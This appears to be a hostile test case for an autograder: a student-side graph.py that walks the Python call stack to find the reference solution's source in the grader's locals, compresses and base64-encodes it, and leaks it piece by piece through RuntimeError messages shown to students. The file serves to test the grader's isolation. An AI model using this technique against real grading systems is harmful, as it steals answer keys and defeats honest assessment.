"""HOSTILE (class 1 + 7: the answer key leaves the worker through visible feedback). Session B (graph
and MLP checks) receives the reference's gates.py as source text, to run as stand-in gates. This graph.py
is imported right after the stand-ins were installed, in the same call: it walks up the call stack to
the worker's load handler, reads the source text from its locals, compresses it (zlib + base64) and
hands it out in pieces: every ComputationalGraph.forward raises RuntimeError("EXFIL i/n <piece>"), and
mlp.py of this case does the same in MLP(...). Each visible graph.* and mlp.* check message then carries
one piece; the student view of one submission holds the whole reference gates.py (the model solution,
before the deadline), to reassemble and hand in next time.

A safe grader must not put the reference's source (or any readable form of it) in a worker whose
errors and messages reach students, or must not show a session-B error text that carries it (e.g.
stand-ins that are not the model solution's text, no source at all, or session-B messages reduced to
what the grader itself says). Bounded: one stack walk of at most 30 frames at import."""
import base64
import sys
import zlib

PIECE = 360


def _find_source():
    frame = sys._getframe(1)
    for _ in range(30):
        if frame is None:
            return None
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict):
                src = value.get("source") if isinstance(value.get("source"), str) else None
                if src is None and isinstance(value.get("standins"), dict):
                    src = value["standins"].get("source")
                if isinstance(src, str) and "class" in src:
                    return src
        frame = frame.f_back
    return None


SOURCE = _find_source()
BLOB = base64.b64encode(zlib.compress((SOURCE or "").encode(), 9)).decode() if SOURCE else ""
PIECES = [BLOB[i:i + PIECE] for i in range(0, len(BLOB), PIECE)]
COUNT = [0]


def piece():
    if not PIECES:
        return "EXFIL none: no source found"
    k = COUNT[0] % len(PIECES)
    COUNT[0] += 1
    return f"EXFIL {k + 1}/{len(PIECES)} {PIECES[k]}"


class ComputationalGraph:
    def input(self, name):
        return name

    def gate(self, gate, *inputs):
        return None

    def forward(self, values):
        raise RuntimeError(piece())

    def backward(self, dout=None):
        raise RuntimeError(piece())
